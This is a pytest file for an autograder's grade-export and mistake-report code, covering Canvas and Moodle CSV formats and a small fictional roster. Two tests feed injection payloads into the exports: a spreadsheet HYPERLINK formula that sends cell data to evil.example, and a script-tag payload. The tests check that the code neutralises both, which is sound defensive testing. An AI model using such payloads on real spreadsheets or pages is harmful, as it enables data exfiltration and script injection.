"""Grades, as a table and as learning platforms take them; and what the class gets wrong."""

import csv
import io
import json
from html.parser import HTMLParser

import pytest
from nbgrader.api import Gradebook

from autograder.grading import export, report, roster
from autograder.grading.gradebook import database
from autograder.grading.grades import Grade, Row, Table, grades, to_grade_by_hand
from tests.autograder.grading.conftest import NAME
from tests.autograder.quick_judge import CALLED, RIGHT, WRONG
from tests.autograder.small_lesson import LESSON
from workbook.syllabus import lesson

ROSTER = (
    "Student,ID,SIS User ID,SIS Login ID,Section,Email\n"
    "    Points Possible,,,,,\n"
    '"Díaz, Ana",77,ana,adiaz,A,ana@x.org\n'
    '"Li, Ben",78,ben,bli,B,ben@x.org\n'
    '"Moss, Zoe",79,zoe,zmoss,B,\n'
)


@pytest.fixture
def people(course):
    (course / "roster.csv").write_text(ROSTER)
    (course / "grading.toml").write_text('roster = "roster.csv"\n')
    return roster.read(course / "roster.csv").by_id()


@pytest.fixture
def table(people, hand_in, graded):
    """Ana has half of it, with a written answer; Ben is late; Zoe handed in nothing."""
    path = hand_in("ana", softmax=RIGHT, attend=WRONG)
    notebook = json.loads(path.read_text())
    for cell in notebook["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "question-why":
            cell["source"] = "Because of the variance."
    path.write_text(json.dumps(notebook))
    hand_in("ben", softmax=CALLED, attend=RIGHT)
    graded()
    with Gradebook(database()) as gradebook:
        notebook = gradebook.find_submission_notebook(NAME, NAME, "ben")
        notebook.late_submission_penalty = 1.0
        gradebook.db.commit()
    return grades([LESSON])


def rows(text):
    return list(csv.DictReader(io.StringIO(text)))


def test_the_table_has_everybody_in_the_order_of_names(table):
    assert [row.id for row in table.rows] == ["ana", "ben", "zoe"]
    assert table.most == {NAME: 10.5}
    ana, ben, zoe = (row.grades[NAME] for row in table.rows)
    assert (ana.score, ana.by_hand, ana.handed_in) == (5.875, 1, True)
    assert (ben.score, ben.penalty) == (2.5, 1.0)
    assert (zoe.score, zoe.handed_in) == (None, False)
    assert table.missing_as_zero().rows[2].grades[NAME].score == 0.0
    assert to_grade_by_hand([LESSON]) == 1
    assert grades([lesson(3)]).rows == []


def test_the_plain_table_says_everything(table, people):
    ana, ben, zoe = rows(export.as_csv(table, people, {}))
    assert ana["student"] == "ana"
    assert (ana["first_name"], ana["last_name"]) == ("Ana", "Díaz")
    assert (ana[NAME], ana[f"{NAME} ungraded answers"], ana["of"]) == ("5.875", "1", "10.5")
    assert (ben[NAME], ben[f"{NAME} late penalty"], ben["total"]) == ("2.5", "1", "2.5")
    assert [zoe[name] for name in (NAME, f"{NAME} late penalty", "total", "of")] == [
        *("", "", ""),
        "10.5",
    ]


def test_canvas_finds_its_students_and_the_points_possible(table, people):
    possible, ana, *_ = rows(export.as_canvas(table, people, {NAME: "Attention (12345)"}))
    assert list(ana)[:5] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
    assert possible["Student"] == "Points Possible"
    assert possible["Attention (12345)"] == "10.5"
    assert ana == {
        "Student": "Díaz, Ana",
        "ID": "77",
        "SIS User ID": "ana",
        "SIS Login ID": "adiaz",
        "Section": "A",
        "Attention (12345)": "5.875",
    }


def test_without_a_roster_canvas_gets_the_ids(table):
    _, ana, *_ = rows(export.as_canvas(table, {}, {}))
    assert (ana["Student"], ana["SIS User ID"]) == ("Díaz, Ana", "ana")


def test_moodle_maps_ids_names_and_addresses(table, people):
    ana, *_ = rows(export.as_moodle(table, people, {}))
    assert ana == {
        "First name": "Ana",
        "Last name": "Díaz",
        "ID number": "ana",
        "Email address": "ana@x.org",
        f"02 {LESSON.title}": "5.875",
    }


@pytest.mark.parametrize(("form", "nothing"), [("csv", ""), ("canvas", ""), ("moodle", "-")])
def test_who_handed_in_nothing_has_no_grade_and_is_counted(table, people, form, nothing):
    def last(of):
        return list(rows(export.FORMATS[form](of, people, {NAME: NAME}))[-1].values())

    assert nothing in last(table)[4:]
    assert "0" not in last(table)
    assert "0" in last(table.missing_as_zero())
    told = f"{NAME}: 1 of 3 students handed in nothing that could be graded, and have "
    assert export.warnings(table, people, form)[1].startswith(f"{told}no grade here")
    assert export.warnings(table.missing_as_zero(), people, form)[1] == f"{told}0"


@pytest.mark.parametrize(
    ("columns", "given", "by", "ids", "warned"),
    [
        ("ID number,Username", ["1,ana", "2,ben", "3,zoe"], "ID number", ["1", "2", "3"], False),
        (
            "ID number,Username",
            ["1,ana", ",ben", "3,zoe"],
            "Username",
            ["ana", "ben", "zoe"],
            False,
        ),
        ("ID number,Username", ["1,", ",ben", "3,zoe"], "ID number", ["1", "", "3"], True),
        ("id,Username", ["1,ana", "2,ben", "3,zoe"], "Username", ["ana", "ben", "zoe"], False),
        ("id", ["1", "2", "3"], "ID number", ["1", "2", "3"], False),
    ],
)
def test_moodle_finds_everybody_by_one_column(course, columns, given, by, ids, warned):
    (course / "roster.csv").write_text("\n".join([columns, *given]))
    people = roster.read(course / "roster.csv").by_id()
    table = Table({NAME: 1.0}, [Row(id, "", "", "", {NAME: Grade(1.0)}) for id in people])
    assert [row[by] for row in rows(export.as_moodle(table, people, {}))] == ids
    told = " ".join(export.warnings(table, people, "moodle"))
    assert ("by Email address" in told) == warned


def test_answers_that_nobody_graded_are_warned_of(table, people):
    warning, _ = export.warnings(table, people, "canvas")
    assert "1 written answers of 1 students are not graded yet" in warning
    assert (
        "not on the roster: ana, ben, zoe"
        in export.warnings(table, {"yan": roster.Person("yan")}, "csv")[-1]
    )
    assert "without a roster" in export.warnings(table, {}, "moodle")[-1]


# ---- the report --------------------------------------------------------------------------------


@pytest.fixture
def counted(hand_in, graded):
    hand_in("ana", softmax=WRONG, attend=WRONG)
    hand_in("ben", softmax=WRONG, attend=RIGHT)
    hand_in("yan", softmax=CALLED)
    hand_in("zoe", softmax=RIGHT)
    graded()
    return report.count([LESSON, lesson(3)])


def test_mistakes_are_counted_by_exercise_most_frequent_first(counted):
    softmax, attend = counted.exercises[:2]
    assert counted.submissions == 4
    assert softmax.passed == ["zoe"]
    assert [(each.name, each.students) for each in softmax.mistakes] == [
        ("the second forgotten", ["ana", "ben"]),
        ("torch's own softmax", ["yan"]),
    ]
    assert softmax.library == ["yan"]
    assert [each.name for each in attend.mistakes] == ["not written yet", "the second forgotten"]
    assert {each.lesson for each in counted.exercises} == {NAME}


def test_the_csv_has_a_row_for_each_outcome(counted):
    found = rows(counted.csv())
    assert found[0] == {
        "lesson": NAME,
        "exercise": "softmax",
        "outcome": "right",
        "students": "1",
        "share": "0.250",
        "message": "",
    }
    assert (found[1]["outcome"], found[1]["students"]) == ("the second forgotten", "2")
    assert found[1]["message"] == "Mind the second."


def test_a_students_words_are_no_formula_in_the_csv(counted):
    formula = '=HYPERLINK("http://evil.example/?"&A1)'
    counted.exercises[0].mistakes[0].name = formula
    counted.exercises[0].mistakes[0].message = "+1\ud83d"
    text = counted.csv()
    assert rows(text)[1]["outcome"] == f"'{formula}"
    assert rows(text)[1]["message"].startswith("'+1")
    text.encode()


class Page(HTMLParser):
    def __init__(self, text):
        super().__init__()
        self.tags, self.pictures = [], []
        self.feed(text)

    def handle_starttag(self, tag, attributes):
        self.tags.append(tag)
        if tag == "img":
            self.pictures.append(dict(attributes))


def test_the_page_has_a_plot_with_words_and_no_script(counted):
    page = Page(counted.html())
    (picture,) = page.pictures
    assert picture["src"].startswith("data:image/png;base64,")
    assert "softmax: right: 1; the second forgotten: 2" in picture["alt"]
    assert page.tags.count("table") == len(counted.exercises)
    assert not {"script", "link", "iframe"} & set(page.tags)


def test_a_students_words_are_words_in_the_page(counted):
    counted.exercises[0].mistakes[0].message = "<script>alert(1)</script> $\\frac$ \ud83d"
    counted.exercises[0].mistakes[0].name = "<b>$x$</b>"
    text = counted.html()
    assert "<script>" not in text
    assert "<b>" not in text
    text.encode()


def test_nothing_graded_is_an_empty_report(course):
    assert report.count([LESSON]).submissions == 0
